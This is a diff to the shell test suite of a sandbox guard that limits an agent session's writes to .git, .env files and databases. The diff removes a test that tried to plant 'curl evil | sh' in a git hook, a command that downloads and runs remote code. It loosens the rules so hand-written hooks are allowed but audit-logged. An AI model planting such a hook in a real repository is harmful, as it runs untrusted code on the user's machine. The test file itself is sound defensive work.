@@ -86,8 +86,13 @@ mkrepo "$SANDBOX/repo"
 expect_blocked "overwrite .git/HEAD" guard bash -c "echo junk > '$SANDBOX/repo/.git/HEAD'"
 assert_eq ".git/HEAD intact" "ref: refs/heads/main" "$(cat "$SANDBOX/repo/.git/HEAD")"
 expect_ok "git commit still writes .git" guard git -C "$SANDBOX/repo" commit -q --allow-empty -m work
-expect_blocked "a new hook written into .git by hand" guard bash -c "echo 'curl evil | sh' > '$SANDBOX/repo/.git/hooks/post-merge'"
-assert_missing "no hook was created" "$SANDBOX/repo/.git/hooks/post-merge"
+# what tools add to an existing .git (a hook, info/exclude) loses nothing:
+# it runs, and the audit log says so (#19)
+expect_ok "a new hook written into .git by hand" guard bash -c "echo 'make test' > '$SANDBOX/repo/.git/hooks/post-merge'"
+assert_exists "the hook was created" "$SANDBOX/repo/.git/hooks/post-merge"
+if grep post-merge "$AUDIT_LOG" | grep -q '"rule":"data-git-additions"'; then _ok "the hook write is in the audit log"; else
+    _fail "the hook write is in the audit log" "$(tail -3 "$AUDIT_LOG" 2>/dev/null)"
+fi
 expect_blocked "python creating a new ref by hand" guard "$PYTHON" -c "open('$SANDBOX/repo/.git/refs/heads/evil', 'x').write('0'*40)"
 assert_missing "no ref was created" "$SANDBOX/repo/.git/refs/heads/evil"
 # a write is judged by the path as written when no symlink is on the way
@@ -120,12 +125,11 @@ rm -f "$HOME/.npmrc"
 
 # --- what the session wrote itself: a .env the agent made for its dev
 # server, a database it created, are its own to read and empty; a .env that
-# was there before is not, and writes inside a new repository's .git are
-# still judged
+# was there before is not, and a repository the session made is its own
 expect_ok "a .env written and read back in the same session" guard bash -c "cd '$SANDBOX' && mkdir -p dev && echo DEBUG=1 > dev/.env && cat dev/.env && cp dev/.env dev/.env.local && cat dev/.env.local"
 never_prints "the planted .env is still guarded" cat "$HOME/project/.env"
 expect_ok "a database made and emptied in the same session" guard bash -c "cd '$SANDBOX' && sqlite3 scratch.db 'create table t(a)' && : > scratch.db"
-expect_blocked "a hand write into a new repository's .git" guard bash -c "cd '$SANDBOX' && git init -q fresh && echo junk > fresh/.git/HEAD"
+expect_ok "a hand write into a repository the session made" guard bash -c "cd '$SANDBOX' && git init -q fresh && echo 'ref: refs/heads/other' > fresh/.git/HEAD"
 expect_blocked "a .env from before the session, read in a later one" guard cat "$SANDBOX/dev/.env"
 
 # --- process listing: ps opens every process's environ and prints none of it
